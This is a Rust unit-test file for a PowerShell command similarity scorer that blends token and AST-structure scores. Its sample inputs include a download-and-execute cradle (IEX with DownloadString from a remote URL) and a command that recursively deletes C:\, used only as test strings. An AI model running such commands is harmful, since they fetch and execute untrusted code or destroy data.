// Copyright 2025 Eric Jingryd (tidynest@proton.me)
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

use std::sync::Arc;

use super::super::*;
use crate::structure::LexicalParser;

fn scorer() -> SimilarityScorer {
    SimilarityScorer::new(Arc::new(LexicalParser::new()), SimilarityConfig::default())
}

fn nodes(tags: &[&str]) -> Vec<String> {
    tags.iter().map(|t| t.to_string()).collect()
}

fn assert_close(actual: f64, expected: f64) {
    assert!(
        (actual - expected).abs() < 1e-9,
        "Expected {}, got {}",
        expected,
        actual
    );
}

// ========================================================================
// Properties
// ========================================================================

#[test]
fn test_identical_commands_score_one() {
    let scorer = scorer();
    let commands = [
        "Get-Process",
        "Get-ChildItem -Path C:\\Temp -Recurse | Where-Object { $_.Length -gt 1MB }",
        "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
        "Get-Process (",
        "   ",
    ];

    for command in commands {
        assert_eq!(
            scorer.compute(command, command),
            1.0,
            "'{}' should be identical to itself",
            command
        );
    }
}

#[test]
fn test_scores_stay_in_unit_interval() {
    let scorer = scorer();
    let samples = ["", "Get-Process", "Remove-Item C:\\ -Recurse -Force", "{", "$x = 1; $y = 2"];

    for reference in samples {
        for candidate in samples {
            let score = scorer.compute(reference, candidate);
            assert!(
                (0.0..=1.0).contains(&score),
                "compute('{}', '{}') = {} is out of range",
                reference,
                candidate,
                score
            );
        }
    }
}

#[test]
fn test_empty_strings() {
    let scorer = scorer();

    assert_eq!(scorer.compute("", ""), 1.0);
    assert_eq!(scorer.compute("", "Get-Process"), 0.0);
    assert_eq!(scorer.compute("Get-Process", ""), 0.0);
}

#[test]
fn test_unrelated_rewrite_drifts() {
    let scorer = scorer();
    let breakdown = scorer.breakdown("Get-Process", "Remove-Item C:\\ -Recurse -Force");

    assert_eq!(breakdown.token_score, 0.0);
    assert_close(breakdown.structural_score, 5.0 / 8.0);
    assert!(breakdown.score < 0.5, "Unrelated rewrite should drift: {:?}", breakdown);
    assert!(breakdown.structure_comparable);
}

// ========================================================================
// Structural sub-score
// ========================================================================

#[test]
fn test_multiset_jaccard() {
    let reference = nodes(&["A", "A", "B"]);
    let candidate = nodes(&["A", "B", "B"]);

    // min: A 1 + B 1 = 2, max: A 2 + B 2 = 4
    assert_close(structural_similarity(&reference, &candidate), 0.5);
    assert_close(structural_similarity(&reference, &reference), 1.0);
    assert_close(structural_similarity(&reference, &nodes(&["C"])), 0.0);
}

#[test]
fn test_structure_fallback_when_reference_fails() {
    assert_eq!(structural_similarity(&[], &[]), 1.0);
    assert_eq!(structural_similarity(&[], &nodes(&["CommandAst"])), 0.0);
    assert_eq!(structural_similarity(&nodes(&["CommandAst"]), &[]), 0.0);
}

#[test]
fn test_structure_comparable_flag() {
    let scorer = scorer();

    // Both fail: compatible score of 1.0 but not a real comparison
    let both_failed = scorer.breakdown("Get-Process (", "Get-Service (");
    assert_eq!(both_failed.structural_score, 1.0);
    assert!(!both_failed.structure_comparable);

    let one_failed = scorer.breakdown("Get-Process", "Get-Process (");
    assert_eq!(one_failed.structural_score, 0.0);
    assert!(!one_failed.structure_comparable);
}

#[test]
fn test_reuses_supplied_candidate_nodes() {
    let scorer = scorer();
    let supplied = nodes(&["ScriptBlockAst", "NamedBlockAst", "PipelineAst", "CommandAst", "StringConstantExpressionAst"]);

    let breakdown = scorer.breakdown_with_candidate_nodes("Get-Process", "Get-Process", &supplied);
    assert_eq!(breakdown.score, 1.0);

    // Empty supplied nodes mean the candidate did not parse
    let breakdown = scorer.breakdown_with_candidate_nodes("Get-Process", "Get-Process", &[]);
    assert_eq!(breakdown.structural_score, 0.0);
    assert_close(breakdown.score, 0.5);
}

// ========================================================================
// Token sub-score
// ========================================================================

#[test]
fn test_tokenizer_keeps_identifiers_whole() {
    let scorer = scorer();
    assert_eq!(
        scorer.tokenize("Get-Item -Path $env:TEMP"),
        vec!["Get-Item", "-", "Path", "$", "env", ":", "TEMP"]
    );
}

#[test]
fn test_token_jaccard() {
    assert_close(token_jaccard(&["a", "b"], &["a", "c", "c"]), 0.5);
    assert_eq!(token_jaccard(&[], &["a"]), 1.0);
    assert_eq!(token_jaccard(&["a"], &[]), 0.0);
}

#[test]
fn test_jaccard_metric_blend() {
    let config = SimilarityConfig {
        token_metric: TokenMetric::Jaccard,
        ..SimilarityConfig::default()
    };
    let scorer = SimilarityScorer::new(Arc::new(LexicalParser::new()), config);

    // Tokens: 1 of 4 reference tokens; structure: 5 shared of 7
    let breakdown = scorer.breakdown("Get-Process -Name a", "Get-Process");
    assert_close(breakdown.token_score, 0.25);
    assert_close(breakdown.structural_score, 5.0 / 7.0);
    assert_close(breakdown.score, 0.5 * 0.25 + 0.5 * 5.0 / 7.0);
}

#[test]
fn test_weights_change_the_blend() {
    let config = SimilarityConfig {
        bleu_weight: 0.0,
        ast_weight: 1.0,
        ..SimilarityConfig::default()
    };
    let scorer = SimilarityScorer::new(Arc::new(LexicalParser::new()), config);

    // Same shape, different cmdlet: structure alone says identical
    assert_eq!(scorer.compute("Get-Process", "Get-Service"), 1.0);
}
